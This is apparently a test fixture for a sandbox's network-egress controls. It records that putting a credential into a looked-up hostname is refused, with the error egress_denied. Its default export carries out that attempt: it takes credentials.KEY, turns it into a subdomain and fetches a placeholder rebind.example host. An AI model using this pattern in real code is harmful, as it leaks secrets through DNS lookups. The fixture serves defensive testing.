export const attempt = {
  tries: "to send a credential as part of a name that is looked up",
  refusedBecause: "values are put into paths, headers and bodies, never into hosts",
  allowedHosts: ["http://*.rebind.example"],
  privateHosts: [],
  ends: { code: "egress_denied", message: "an address of this machine" },
  keyHosts: ["http://{witness}"],
};

export default async (_, { credentials }) => {
  const name = credentials.KEY.replaceAll("_", "-").toLowerCase();
  await fetch(`http://${name}.rebind.example/reached`);
  return "got through";
};
